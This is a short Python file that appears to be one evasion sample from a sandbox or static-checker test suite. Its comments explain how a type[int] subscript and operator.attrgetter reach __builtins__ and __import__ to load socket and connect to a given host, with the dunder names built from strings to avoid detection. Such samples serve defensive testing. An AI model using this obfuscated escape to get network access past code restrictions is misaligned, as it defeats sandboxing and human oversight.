# family: network
# Escape: a subscript index is an operand, so type[int] is allowed there; the tool's __getitem__ returns it.
# Calling the alias calls type(): the attrgetter class, which reads tool.__builtins__ (run-time name) to
# import socket and connect out.
import operator


class Lookup:
    def __getitem__(self, key):
        return key


def tool(host: str, port: int) -> bytes:
    Getter = Lookup()[type[int]](operator.attrgetter("real"))
    edge = "_" * 2
    net = Getter(edge + "builtins" + edge)(tool)[edge + "import" + edge]("socket")
    with net.create_connection((host, port), timeout=5) as conn:
        return conn.recv(1024)
